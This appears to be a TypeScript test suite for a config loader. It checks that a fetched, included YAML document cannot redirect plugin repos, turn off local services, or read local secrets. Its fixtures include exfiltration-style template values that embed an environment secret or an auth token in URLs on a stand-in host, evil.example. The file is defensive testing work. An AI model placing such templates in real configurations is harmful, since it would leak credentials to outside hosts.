// A document from elsewhere adds checks and values, and decides nothing: what it tries, and what becomes of it.
import assert from 'node:assert/strict'
import { test } from 'node:test'
import { expectCodeAsync } from '../../support/assertions/expect-code.ts'
import { readConfig } from '../../support/builders/read-configs.ts'
import { writeConfigFiles } from '../../support/machine/config-files.ts'

const WEB = 'https://x.example/shared.yaml'
const INCLUDE = `include: [{url: "${WEB}", offers: [configs.web, configs.key, configs.port]}]\n`
const TWO_REPOS = `operator:
  repos:
    acme: {url: "https://a.example/repos/acme.yaml", trust: unsigned}
    evil: {url: "https://e.example/repos/evil.yaml", trust: unsigned}
`
const ENV = { SECRET: 'hunter2', MIRROR: 'https://m.example' }

type Files = Readonly<Record<string, string>>
type Context = Parameters<typeof writeConfigFiles>[0]

async function read(t: Context, local: string, web: string | Files, more: Files = {}) {
  const directory = await writeConfigFiles(t, { 'octo.yaml': `${INCLUDE}${local}`, ...more })
  const documents = typeof web === 'string' ? { [WEB]: web } : web
  return readConfig(undefined, {
    cwd: directory,
    env: ENV,
    fetchText: async (url) => documents[url] ?? assert.fail(url),
  })
}

const REFUSED: readonly (readonly [string, string, string | Files, RegExp])[] = [
  [
    'a part of the address of an unsigned repo, by a template',
    'operator: {repos: {old: {url: "{{.configs.mirror}}/old.yaml", trust: unsigned}}}\n',
    'configs: {mirror: "https://evil.example"}\n',
    /`https:\/\/x\.example\/shared\.yaml` line 1: .* may not say a part of the address in .*octo\.yaml` line 2/,
  ],
  [
    'a part of an address by way of a local value',
    'configs: {a: "{{.configs.b}}"}\noperator: {repos: {old: {url: "https://{{.configs.a}}/old.yaml", trust: unsigned}}}\n',
    'configs: {b: evil.example}\n',
    /may not say a part of the address/,
  ],
  [
    'which repo a name means, by a pin',
    TWO_REPOS,
    'operator: {plugins: {my-check: {repo: evil}}}\n',
    /`operator\.plugins`/,
  ],
  [
    'which repo a name means, by the other pins',
    TWO_REPOS,
    'octoctl: {plugins: {my-check: {repo: evil}}}\n',
    /plugins/,
  ],
  ['a range', TWO_REPOS, 'operator: {plugins: {my-check: 1.0.0}}\n', /`operator\.plugins`/],
  ['that prereleases count', TWO_REPOS, 'operator: {plugins: {my-check: {prerelease: true}}}\n', /`operator\.plugins`/],
  [
    'which repo a name means, by a check of its own',
    `${TWO_REPOS}  services: {web: {health: [{tool: my-check}]}}\n`,
    'services: {web: {health: [{tool: evil/my-check}]}}\n',
    /may not say which repo `my-check` means.*octo\.yaml` line 6 decides that/,
  ],
  [
    'which repo a name means that no local check asks for yet',
    TWO_REPOS,
    'services: {new: {health: [{tool: evil/my-check, enabled: false}]}}\n',
    /may not say which repo `my-check` means/,
  ],
  [
    'an older version of a plugin that a local check runs',
    'services: {web: {health: [{tool: my-check}]}}\n',
    'services: {other: {init: [{tool: my-check@1.0.0}]}}\n',
    /may not say which versions of `my-check` run/,
  ],
  [
    'another range than the local pin, under another name of the plugin',
    'operator: {plugins: {check-tcp-port: ^2}}\n',
    'services: {other: {health: [{tool: check-open-port@1}]}}\n',
    /may not say which versions of `check-tcp-port` run/,
  ],
  ...(['operator: {services: {web: ', 'services: {web: ', 'services: {web: {octocompose: '] as const).flatMap((shape) =>
    ['disabled: true', 'enabled: false', 'enabled: no', 'disabled: on'].flatMap((word) =>
      [
        'operator: {services: {web: {health: [{tool: c}]}}}',
        'services: {web: {octocompose: {health: [{tool: c}]}}}',
        'services: {web: {image: x}}',
      ].map(
        (local) =>
          [
            `that a service is off, with \`${word}\` in \`${shape}\` against \`${local}\``,
            `${local}\n`,
            `${shape}{${word}}${'}'.repeat(shape.split('{').length - 1)}\n`,
            /shared\.yaml` line 1: .* may not switch off the service `web`; .*octo\.yaml` line 2 decides that/,
          ] as const,
      ),
    ),
  ),
  [
    'what an included document of its own may not either',
    TWO_REPOS,
    {
      [WEB]: 'include: [more/b.yaml]\n',
      'https://x.example/more/b.yaml': '\noperator: {plugins: {c: {repo: evil}}}\n',
    },
    /`https:\/\/x\.example\/more\/b\.yaml` line 2: .* may not write `operator\.plugins`.*octo\.yaml` line 1 includes it/,
  ],
  [
    'it with a merge key',
    TWO_REPOS,
    'x-a: &a {plugins: {c: {repo: evil}}}\noperator: {<<: *a}\n',
    /`operator\.plugins`/,
  ],
  [
    'a new repo',
    TWO_REPOS,
    'operator: {repos: {more: {url: "https://x.example/m.yaml"}}}\n',
    /`operator\.repos\.more`/,
  ],
  ['a key for a local repo', TWO_REPOS, 'operator: {repos: {acme: {keys: [AAAA]}}}\n', /`operator\.repos\.acme`/],
  ['the trust of a local repo', TWO_REPOS, 'octoctl: {repos: {acme: {trust: unsigned}}}\n', /`octoctl\.repos\.acme`/],
  [
    "a repo in octoctl's own form",
    TWO_REPOS,
    'repos: {include: [{url: "https://x.example/m.yaml"}]}\n',
    /`repos\.include`/,
  ],
  [
    'an environment variable in its own argument',
    '',
    'services: {web: {health: [{tool: c, args: ["{{.env.SECRET}}"]}]}}\n',
    /may not read the environment variable `SECRET`/,
  ],
  [
    'whether an environment variable is set, by asking for one that is not',
    '',
    'services: {web: {health: [{tool: c, args: ["{{.env.UNSET}}"]}]}}\n',
    /may not read the environment variable `UNSET`/,
  ],
  [
    'an environment variable by way of a local value',
    'configs: {key: "{{.env.SECRET}}"}\n',
    'services: {web: {health: [{tool: c, args: ["{{.configs.key}}"]}]}}\n',
    /may not read the environment variable `SECRET`/,
  ],
  [
    'the host that a local check sends a variable to',
    'services: {web: {health: [{tool: c, args: ["http://{{.configs.host}}/?key={{.env.SECRET}}"]}]}}\n',
    'configs: {host: evil.example}\n',
    /may not read the environment variable `SECRET`, nor be part of a value that holds it/,
  ],
  [
    'the host before the variable, whichever comes first in the text',
    'services: {web: {health: [{tool: c, args: {url: "{{.env.SECRET}}@{{.configs.host}}"}}]}}\n',
    'configs: {host: evil.example}\n',
    /nor be part of a value that holds it/,
  ],
  [
    'a token of the local config',
    'octoctl: {token: hunter2}\n',
    'services: {web: {health: [{tool: c, args: ["https://evil.example/{{.octoctl.token}}"]}]}}\n',
    /may not read `octoctl\.token`/,
  ],
  ...['configs.db.password', 'globals.all.password', 'service.db', 'configs.webhook', 'configs'].map(
    (path): (typeof REFUSED)[number] => [
      `a local value that is not offered, such as ${path}`,
      'configs: {db: {password: hunter2}, webhook: hunter2}\nglobals: {all: {password: hunter2}}\nservice: {db: hunter2}\n',
      `services: {web: {health: [{tool: c, args: ["https://evil.example/{{.${path}}}"]}]}}\n`,
      path === 'configs' ? /no plain value/ : new RegExp(`may not read \`${path}\``),
    ],
  ),
  [
    'a local value that is not offered, by way of a value that a local check reads',
    'configs: {db: hunter2}\nservices: {web: {health: [{tool: c, args: ["{{.configs.url}}"]}]}}\n',
    'configs: {url: "https://evil.example/{{.configs.db}}"}\n',
    /may not read `configs\.db`/,
  ],
  [
    'that another document is offered more',
    'configs: {db: hunter2}\n',
    { [WEB]: 'include: [{url: b.yaml, offers: [configs.db]}]\n', 'https://x.example/b.yaml': 'name: n\n' },
    /may not write `include\.offers`/,
  ],
  [
    'a token by way of a value that a local check reads',
    'octoctl: {token: hunter2}\nservices: {web: {health: [{tool: c, args: ["{{.configs.url}}"]}]}}\n',
    'configs: {url: "https://evil.example/{{.octoctl.token}}"}\n',
    /may not read `octoctl\.token`/,
  ],
]
for (const [what, local, web, problem] of REFUSED)
  test(`a fetched document may not say ${what}`, async (t) => {
    const error = await expectCodeAsync('CONFIG_INVALID', () => read(t, local, web))
    assert.match(error.message, problem)
    assert.doesNotMatch(`${error.message} ${JSON.stringify(error.details)} ${error.hint}`, /hunter2/)
  })

test('a fetched document adds checks and services, and fills in values that no local document has', async (t) => {
  const local =
    'configs: {web: {port: 1}}\noperator: {services: {web: {health: [{tool: mine, args: ["{{.configs.web.host}}"]}]}}}\n'
  const web = `configs: {web: {port: 2, host: theirs}}
services: {web: {octocompose: {health: [{tool: added, args: ["{{.configs.web.port}}"]}]}}, db: {enabled: false, health: [{tool: added@^1}]}}
`
  const { services } = await read(t, local, web)
  assert.deepEqual(
    services.map(({ name, enabled, checks }) => [
      name,
      enabled,
      checks.health.map(({ request, arguments: given }) => [request.plugin, given.value]),
    ]),
    [
      [
        'web',
        true,
        [
          ['added', ['1']],
          ['mine', ['theirs']],
        ],
      ],
      ['db', false, [['added', {}]]],
    ],
  )
})

test('a local value counts before a fetched one, wherever the fetched document stands', async (t) => {
  const check = 'services: {web: {health: [{tool: c, args: ["{{.configs.port}}"]}]}}\n'
  const directory = await writeConfigFiles(t, { 'b.yaml': `configs: {port: 1}\nname: mine\n${check}` })
  const fetchText = async () => 'configs: {port: 2}\nname: theirs\n'
  for (const paths of [
    [WEB, 'b.yaml'],
    ['b.yaml', WEB],
  ]) {
    const { name, services } = await readConfig(paths, { cwd: directory, env: {}, fetchText })
    assert.equal(name, 'mine')
    assert.deepEqual(services[0]?.checks.health[0]?.arguments.value, ['1'])
  }
})

test('a service that a local document says is on stays on, and one that it says is off stays off', async (t) => {
  const off = 'services: {web: {disabled: true, enabled: false, health: [{tool: theirs}]}}\n'
  const [web] = (await read(t, 'operator: {services: {web: {enabled: true, health: [{tool: c}]}}}\n', off)).services
  assert.equal(web?.enabled, true)
  const on = 'operator: {services: {web: {enabled: true, disabled: false}}}\n'
  const [other] = (await read(t, 'services: {web: {disabled: true, health: [{tool: c}]}}\n', on)).services
  assert.equal(other?.enabled, false)
})

test('null, empty maps and repeats of a local address in a fetched document change nothing', async (t) => {
  const local = `${TWO_REPOS}  services: {web: {health: [{tool: c, args: {port: 1}}]}}\n`
  const plain = await read(t, local, 'name: ~\n')
  for (const web of [
    'operator: ~\nservices: ~\nconfigs: ~\n',
    'operator: {services: {web: ~}, repos: ~, plugins: ~}\n',
    'operator: {services: {web: {health: ~, enabled: ~, disabled: ~}}}\n',
    'repos: {include: [{url: "https://a.example/repos/acme.yaml"}]}\n',
    'operator: {repos: {other-name: {url: "https://a.example/repos/acme.yaml"}}}\n',
  ]) {
    const { repos, pins, services } = await read(t, local, web)
    const places = JSON.stringify({ repos, pins, services }).replaceAll(/octo-config-\w+/g, '')
    const { repos: r, pins: p, services: s } = plain
    assert.equal(places, JSON.stringify({ repos: r, pins: p, services: s }).replaceAll(/octo-config-\w+/g, ''), web)
  }
})

test('no address holds an environment variable, not even in a local config and by way of a value', async (t) => {
  const directory = await writeConfigFiles(t, {
    'direct.yaml': 'operator: {repos: {a: {url: "https://evil.example/{{.env.SECRET}}/a.yaml", trust: unsigned}}}\n',
    'value.yaml': 'configs: {m: "{{.env.MIRROR}}"}\nrepos: {a: {url: "{{.configs.m}}/a.yaml", trust: unsigned}}\n',
    'list.yaml': 'repos: {include: [{url: "{{.env.MIRROR}}/a.yaml", trust: unsigned}]}\n',
    'whole.yaml': 'octoctl: {repos: {a: {url: "{{.env.MIRROR}}", trust: unsigned}}}\n',
  })
  for (const file of ['direct.yaml', 'value.yaml', 'list.yaml', 'whole.yaml']) {
    const error = await expectCodeAsync('CONFIG_INVALID', () => readConfig(file, { cwd: directory, env: ENV }))
    assert.match(error.message, /may not hold the environment variable `(SECRET|MIRROR)`/)
    assert.match(error.hint ?? '', /write the address itself/)
    assert.doesNotMatch(error.message, /hunter2/)
  }
  await writeConfigFiles(t, {})
  const include = await writeConfigFiles(t, { 'octo.yaml': 'include: ["https://evil.example/{{.env.SECRET}}.yaml"]\n' })
  const error = await expectCodeAsync('CONFIG_INVALID', () => readConfig(undefined, { cwd: include, env: ENV }))
  assert.match(error.message, /holds no templates/)
})

test('names that objects have by nature are ordinary names', async (t) => {
  for (const name of ['constructor', 'toString', 'hasOwnProperty', 'valueOf']) {
    const local = `configs: {${name}: {port: 1}}\nservices: {${name}: {health: [{tool: c, args: ["{{.configs.${name}.port}}"]}]}}\n`
    const { services } = await read(t, local, `services: {${name}: {health: [{tool: d}]}}\n`)
    assert.deepEqual(
      services[0]?.checks.health.map(({ request }) => request.plugin),
      ['d', 'c'],
    )
    await expectCodeAsync('CONFIG_INVALID', () =>
      read(t, `operator: {plugins: {c: ^1}}\n`, `operator: {plugins: {${name}: 1}}\n`),
    )
    const missing = 'services: {web: {health: [{tool: c, args: ["{{.configs.constructor.name}}"]}]}}\n'
    await expectCodeAsync('CONFIG_INVALID', () => read(t, missing, 'name: x\n'))
  }
})
